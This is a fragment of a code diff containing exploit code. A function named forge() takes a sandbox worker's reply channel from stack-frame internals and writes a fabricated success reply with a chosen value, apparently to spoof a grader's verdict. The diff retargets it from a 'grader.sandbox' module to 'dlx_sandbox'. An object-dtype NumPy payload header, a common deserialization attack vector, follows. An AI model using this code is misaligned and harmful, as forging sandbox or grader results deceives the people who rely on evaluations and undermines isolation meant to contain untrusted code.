@@ -244,7 +244,7 @@ def forge():
     fd = frame.f_locals["worker"].reply_fd
     head = b'{"m": {"D": [["ok", true], ["v", ' + VALUE + b']]}, "b": ' + LENGTHS + b'}'
     data = len(head).to_bytes(8, "little") + head + BLOBS
-    sys.modules["grader.sandbox.wire"].write_frame(fd, data)
+    sys.modules["dlx_sandbox.wire"].write_frame(fd, data)
     time.sleep(60)
 """
 NPY_OBJECT = (b"\x93NUMPY\x01\x00v\x00" + b"{'descr': '|O', 'fortran_order': False, 'shape': (3,), }".ljust(117)
